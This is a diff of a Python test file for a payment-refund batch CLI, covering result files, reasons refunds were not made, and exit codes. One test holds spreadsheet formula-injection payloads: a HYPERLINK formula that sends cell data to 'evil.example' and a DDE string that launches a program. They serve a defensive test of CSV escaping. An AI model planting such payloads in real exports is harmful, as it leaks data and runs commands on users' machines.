@@ -9,13 +9,16 @@ import anyio
 import pytest
 from test_cli_sandbox import read
 
-from lianlian_async.cli.batch.results import RESULT, Totals
+from lianlian_async.cli.batch.checked import Line
+from lianlian_async.cli.batch.results import Totals
 from lianlian_async.cli.exit_codes import MADE, NOT_SENT
 from lianlian_async.cli.sandbox.server import environment, serving
 from lianlian_async.cli.signals import one_interruption
-from lianlian_async.errors import LianLianError
+from lianlian_async.errors import JournalError, LianLianError
+from lianlian_async.models import RefundRequest
+from lianlian_async.outcome import Outcome
 from lianlian_async.sandbox import Fault, Repeated, SandboxGateway, When
-from tests.support.batches import read_csv, read_lines, refund, write_csv
+from tests.support.batches import read_csv, read_lines, refund, write_csv, write_lines
 from tests.support.command import end, interruption, run, start, until
 
 SHORT = ("--deadline", "2", "--not-found-grace", "2.5")
@@ -114,22 +117,155 @@ def test_terminal_shows_progress_of_batch(env, file):
     assert ended.json["outcome"] == "made"
 
 
+# ── the result file ──────────────────────────────────────────────────────────────────────────────
+
+OURS = (
+    *("outcome", "what_to_do", "meaning", "ret_code", "ret_msg", "oid_refundno", "sta_refund", "settle_date"),
+    *("ask_again_at", "error", "attempts", "queries", "seconds"),
+)
+SECRET_FORMULA = '=HYPERLINK("https://evil.example/"&A1)'
+
+
+def results(out):
+    """Return the result lines by line number; an empty cell is None."""
+    lines = (read_lines if out.suffix == ".jsonl" else read_csv)(out)
+    return {int(line["line"]): {name: value or None for name, value in line.items()} for line in lines}
+
+
 @pytest.mark.parametrize("name", ["results.jsonl", "results.CSV"])
-def test_out_has_one_line_for_each_refund(env, file, tmp_path, name):
-    """--out has the outcome of each refund, with Chinese text, even if it came from the journal."""
+def test_out_has_the_columns_of_the_file_and_the_outcomes(env, file, tmp_path, name):
+    """--out has each line's own columns and its outcome, with Chinese text, even if it came from the journal."""
     out = tmp_path / name
-    write_csv(file, [refund(1), refund(2, money_refund="1000.01"), refund(3)])
+    rows = [refund(1), refund(2, money_refund="1000.01"), refund(3)]
+    write_csv(file, [row | {"客户": f"王{row['no_refund']}", "outcome": "earlier"} for row in rows])
     for attempts in (1, 0):
-        assert run("batch", file, "--yes", "--out", out, env=env).exit_code == 3
-        read_all = read_lines if out.suffix == ".jsonl" else read_csv
-        made, rejected, _ = sorted(read_all(out), key=lambda line: line["no_refund"])
-        assert tuple(made) == RESULT
+        assert run("batch", file, "--yes", "--ignore-unknown", "--out", out, env=env).exit_code == 3
+        lines = results(out)
+        made, rejected = lines[2], lines[3]
+        own = ("line", "no_refund", "dt_refund", "money_refund", "no_order", "客户", "outcome")
+        assert tuple(made) == own + OURS[1:]
         assert (made["no_refund"], made["outcome"], made["sta_refund"]) == ("R-1", "made", "2")
-        assert (made["ret_msg"], made["money_refund"], made["error"] or None) == ("交易成功", "10.00", None)
-        assert int(made["attempts"]) == attempts
+        assert (made["ret_msg"], made["money_refund"], made["meaning"]) == ("交易成功", "10.00", "handled")
+        assert (made["客户"], made["what_to_do"], made["error"]) == ("王R-1", None, None)
+        assert len(made["settle_date"]) == 8
         assert made["oid_refundno"]
-        assert (rejected["outcome"], rejected["ret_code"], rejected["sta_refund"] or None) == ("rejected", "5003", None)
+        assert int(made["attempts"] or 0) == attempts
+        assert (rejected["outcome"], rejected["ret_code"], rejected["sta_refund"]) == ("rejected", "5003", None)
+        assert rejected["meaning"] == "refund amount does not fit the original"
+        assert rejected["what_to_do"] == "correct the request; the gateway will not make this refund"
         assert "5003" in rejected["error"]
+
+
+def test_out_has_what_the_command_filled_in(env, file, tmp_path):
+    """A number that --derive made and a time from --dt-refund are in the result lines, as they were sent."""
+    write_csv(file, [refund(1, no_refund="", dt_refund=None)])
+    out = tmp_path / "results.csv"
+    options = ("--derive", "--dt-refund", "20261122020000", "--yes", "--out", out)
+    assert run("batch", file, *options, env=env).exit_code == 0
+    line = results(out)[2]
+    assert line["no_refund"].startswith("LL")
+    assert line["dt_refund"] == "20261122020000"
+    assert tuple(line)[:6] == ("line", "no_refund", "money_refund", "no_order", "dt_refund", "outcome")
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        (SECRET_FORMULA, f"'{SECRET_FORMULA}"),
+        ("+86 138 0000 0000", "'+86 138 0000 0000"),
+        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("＝1+1", "'＝1+1"),
+        ("-12.50", "-12.50"),
+        ("-1,234.50", "-1,234.50"),
+        ("a=b", "a=b"),
+    ],
+)
+def test_no_cell_of_out_is_a_formula(env, tmp_path, cell, written):
+    """A cell or column name that a spreadsheet would run as a formula is marked as text in CSV; JSON is left alone."""
+    file = write_lines(tmp_path / "refunds.jsonl", [refund(1) | {"note": cell, cell: "x"}])
+    for name, column, text in (("results.csv", written, written), ("results.jsonl", cell, cell)):
+        run("batch", file, "--yes", "--ignore-unknown", "--out", tmp_path / name, env=env)
+        line = results(tmp_path / name)[1]
+        assert (line["note"], line[column]) == (text, "x")
+
+
+def test_out_has_the_lines_that_were_not_sent(env, gateway, file, tmp_path):
+    """After an interruption --out has all lines: invalid ones, those in flight, and those to do."""
+    out = tmp_path / "results.csv"
+    rows = [refund(number) for number in range(10)]
+    write_csv(file, [*rows[:5], refund("X", money_refund="-1"), refund("Y"), refund("Y", no_order="other"), *rows[5:]])
+    process = start_until_stuck(gateway, file, env, "--skip-invalid", "--out", out, sent=3, stuck=2)
+    process.send_signal(signal.SIGINT)
+    assert end(process, env).exit_code == 130
+    lines = results(out)
+    assert [line["outcome"] for _, line in sorted(lines.items())] == [
+        *(["made"] * 3 + ["unknown"] * 2 + ["invalid"] * 3 + ["to do"] * 5)
+    ]
+    assert lines[5]["what_to_do"] == "run the same command again; do not use a new no_refund"
+    assert lines[7]["error"].startswith("money_refund: must be")
+    assert lines[7]["no_refund"] == "R-X"
+    assert lines[8]["error"] == "no_refund R-Y has a different no_order on line 9"
+    assert lines[9]["error"] == "no_refund R-Y has a different no_order on line 8"
+    assert lines[14]["what_to_do"] == "run the same command again"
+
+
+# ── what was not made ────────────────────────────────────────────────────────────────────────────
+
+
+def test_refunds_that_were_not_made_are_listed_by_reason(env, gateway, file):
+    """The output ends with every refund that was not made, by reason, and what to do about it."""
+    rows = [refund(1), refund(2, money_refund="1000.01"), refund(3), refund(4, no_order=None, oid_paybill="2026")]
+    write_csv(file, rows)
+    gateway.fail("R-3")
+    gateway.script(Fault.BUSY, ret_code="9910", when=When.BEFORE, no_refund="R-4")
+    assert run("batch", file, "--yes", env=env).exit_code == 3
+    write_csv(file, [refund(1, money_refund="11"), *rows[1:]])
+    people, machine = (run("batch", file, "--yes", *more, env=env) for more in ((), ("--json",)))
+    assert people.exit_code == 3
+    assert "1 conflict: the no_refund belongs to a refund with another money_refund" in people.stdout
+    assert "what to do: do not refund again before a person has decided" in people.stdout
+    assert "1 failed: made, but failed at the bank (sta_refund 3)" in people.stdout
+    assert "1 rejected: 5003 refund amount does not fit the original" in people.stdout
+    assert "│ 3    │ R-2       │ O-2   │ 1,000.01 │" in people.stdout
+    assert "│ 5    │ R-4       │ 2026  │ 10.00 │" in people.stdout
+    listed = {(reason["outcome"], reason["ret_code"]): reason for reason in machine.json["not_made"]}
+    assert listed["rejected", "5003"]["lines"] == [{"line": 3, "no_refund": "R-2", "order": "O-2", "yuan": "1000.01"}]
+    assert set(listed) == {("conflict", None), ("failed", None), ("rejected", "5003"), ("rejected", "9910")}
+
+
+def test_out_of_a_stopped_batch_has_all_lines(env, gateway, file, tmp_path):
+    """If the batch stops, --out has the invalid lines and those that are to do."""
+    write_csv(file, [refund(1), refund(2, money_refund="-1"), refund(3)])
+    gateway.script(Fault.BUSY, ret_code="3001", when=When.BEFORE)
+    options = ("--yes", "--skip-invalid", "--concurrency", "1", "--out", tmp_path / "results.csv")
+    assert run("batch", file, *options, env=env).exit_code == 3
+    lines = results(tmp_path / "results.csv")
+    assert [lines[number]["outcome"] for number in (2, 3, 4)] == ["rejected", "invalid", "to do"]
+    assert lines[3]["what_to_do"] == "correct the line, then run the same command again"
+
+
+def test_any_other_error_is_a_reason():
+    """A refund that the journal refused is listed with the journal's error."""
+    totals, request = Totals(1), RefundRequest.from_dict(refund(1))
+    error = JournalError("journal refunds.sqlite: disk full")
+    outcome = Outcome(request=request, refund=None, error=error, attempts=0, queries=0, seconds=0.0)
+    totals.add(Line(2, request, {}), outcome)
+    [(reason, refunds)] = totals.not_made.items()
+    assert (reason.reason, reason.advice) == (str(error), "run the same command again")
+    assert refunds.lines == [(2, "R-1", "O-1", Decimal("10.00"))]
+
+
+@pytest.mark.parametrize("has_out", [True, False])
+def test_long_lists_are_cut(env, gateway, tmp_path, has_out):
+    """Twenty refunds are listed for each reason; the rest is in --out."""
+    file, out = refunds(tmp_path / "refunds.csv", 30), tmp_path / "results.csv"
+    gateway.script(Fault.BUSY, ret_code="9910", when=When.BEFORE, times=30)
+    ended = run("batch", file, "--yes", *(["--out", out] if has_out else []), env=env)
+    assert "30 rejected: 9910 risk level too high" in ended.stdout
+    assert f"… and 10 more: {out if has_out else 'use --out to list all'}" in ended.stdout
 
 
 # ── every other end ──────────────────────────────────────────────────────────────────────────────
@@ -142,9 +278,8 @@ def test_some_rejected_exits_3(env, file):
     assert ended.exit_code == 3
     assert ended.json["outcome"] == "rejected"
     assert ended.json["outcomes"]["rejected"] == {"refunds": 2, "yuan": "3000.01"}
-    assert ended.json["rejections"] == [{"ret_code": "5003", "refunds": 2}]
-    again = run("batch", file, "--yes", env=env)
-    assert "│ 5003     │ 2       │ refund amount does not fit the original │" in again.stdout
+    [reason] = ended.json["not_made"]
+    assert (reason["ret_code"], reason["refunds"]) == ("5003", 2)
 
 
 def test_some_failed_exits_3(env, gateway, file):
@@ -215,11 +350,12 @@ def test_a_wrong_gateway_key_stops_the_batch(env, gateway, tmp_path, stranger_ke
     ended = run("batch", file, "--yes", "--deadline", "1", *(["--json"] if as_json else []), env=wrong)
     assert (ended.exit_code, gateway.requests["apply"]) == (4, 4)
     if as_json:
-        assert ended.json["unknown"] == [{"reason": "signature invalid", "refunds": 4}]
+        [reason] = ended.json["not_made"]
+        assert (reason["outcome"], reason["reason"], reason["refunds"]) == ("unknown", "signature invalid", 4)
         assert ended.json["to_do"]["refunds"] == 56
         assert "LIANLIAN_GATEWAY_PUBLIC_KEYS" in ended.json["error"]["message"]
     else:
-        assert "│ signature invalid │ 4 " in ended.stdout
+        assert "4 unknown: signature invalid" in ended.stdout
         assert "LIANLIAN_GATEWAY_PUBLIC_KEYS" in ended.stderr
     assert run("batch", file, "--yes", env=env).exit_code == 0
     assert books(gateway) == once(60)
@@ -267,19 +403,22 @@ def test_removed_journal_ends_the_batch(gateway, file, journal):
         ended = run("batch", file, "--yes", "--json", "--concurrency", "1", env=environment(gateway, url))
     assert (ended.exit_code, ended.json["outcome"]) == (4, "journal error")
     assert ended.json["outcomes"]["made"]["refunds"] == 4
-    assert ended.json["unknown"] == [{"reason": "journal error after sending", "refunds": 1}]
+    [reason] = ended.json["not_made"]
+    assert (reason["reason"], reason["refunds"]) == ("journal error after sending", 1)
     assert "was removed" in ended.json["error"]["message"]
     assert gateway.requests["apply"] == 5
 
 
 @pytest.mark.skipif(not Path("/dev/full").exists(), reason="this system has no full disk to offer")
-def test_unwritable_out_exits_1(env, gateway, file):
-    """A full disk under --out is an error; the journal knows all refunds that were made."""
+@pytest.mark.parametrize("count", [10, 100])
+def test_unwritable_out_exits_1(env, gateway, tmp_path, count):
+    """A full disk under --out is an error, at the end or before; the journal knows all refunds that were made."""
+    file = refunds(tmp_path / "refunds.csv", count)
     ended = run("batch", file, "--yes", "--json", "--out", "/dev/full", env=env)
     assert ended.exit_code == 1
     assert ended.json["error"]["message"] == "/dev/full: No space left on device"
     assert run("batch", file, "--yes", env=env).exit_code == 0
-    assert books(gateway) == once(10)
+    assert books(gateway) == once(count)
 
 
 def test_invalid_keys_exit_2(env, file):
@@ -306,10 +445,12 @@ def test_incomplete_batch_is_not_made():
 # ── processes that die ───────────────────────────────────────────────────────────────────────────
 
 
-def start_until_stuck(gateway, file, env, *, sent, stuck, when=When.AFTER):
+def start_until_stuck(gateway, file, env, *options, sent, stuck, when=When.AFTER):
     """Start a batch as a process; ``sent`` requests get a response, and the next ``stuck`` ones never do."""
     gateway.script(Fault.NO_ANSWER, call="apply", skip=sent, times=stuck, when=when)
-    process = start("batch", file, "--yes", "--json", "--concurrency", stuck, "--not-found-grace", "1", env=env)
+    process = start(
+        "batch", file, "--yes", "--json", "--concurrency", stuck, "--not-found-grace", "1", *options, env=env
+    )
     until(lambda: gateway.requests["apply"] == sent + stuck)
     return process
 
